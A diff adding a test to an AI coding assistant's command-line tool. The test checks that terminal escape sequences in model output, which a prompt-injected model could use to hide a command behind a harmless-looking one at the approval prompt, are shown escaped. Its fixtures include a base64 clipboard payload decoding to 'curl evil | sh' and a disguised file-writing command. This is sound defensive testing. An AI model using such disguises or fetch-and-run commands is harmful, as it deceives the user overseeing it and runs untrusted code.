@@ -618,3 +618,19 @@ def test_the_cli_asks_on_its_terminal(mm_home, scripted, daemon, dialogue, ran, 
     assert [(r["kind"], r["rule"]) for r in rules()] == ([rule] if rule else [])
     if not ran:
         assert "not in this folder" in server.requests()[1]["body"]["messages"][-1]["content"]
+
+
+def test_a_command_that_rewrites_the_terminal_is_shown_as_it_is(mm_home, scripted, daemon):
+    # Under prompt injection the model writes terminal controls on purpose: ESC [2K and a carriage return
+    # erased the ask's line and wrote `echo hello` over it, for a command that was something else; its
+    # answer could set the clipboard (OSC 52). On a terminal each is shown as its escape, never obeyed.
+    work = mm_home / "work"
+    disguised = "echo pwned > pwned.txt #\x1b[2K\r\x1b[32mecho hello"
+    scripted([bash(disguised), {"text": "all fine\x1b]52;c;Y3VybCBldmlsIHwgc2g=\x07 \x9b2K done"}])
+    code, text = run_on_pty(["-p", "tidy up"], work, [("allow?", "n"), ("reason for the model", "")])
+    assert code == 0, text  # denied, and the model answered
+    assert "wants to run: $ echo pwned > pwned.txt #\\x1b[2K\\x0d\\x1b[32mecho hello" in text
+    assert "all fine\\x1b]52;c;Y3VybCBldmlsIHwgc2g=\\x07 \\x9b2K done" in text
+    for obeyed in ("\x1b[2K", "\x1b[32m", "\x1b]52", "\x07", "\x9b"):
+        assert obeyed not in text, obeyed
+    assert not (work / "pwned.txt").exists()
